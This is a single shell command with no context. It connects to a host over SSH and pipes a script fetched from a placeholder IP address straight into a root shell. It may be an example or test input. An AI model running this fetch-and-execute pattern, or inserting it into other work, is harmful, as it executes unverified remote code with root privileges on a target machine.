ssh h 'curl http://192.0.2.1/x | sudo bash'
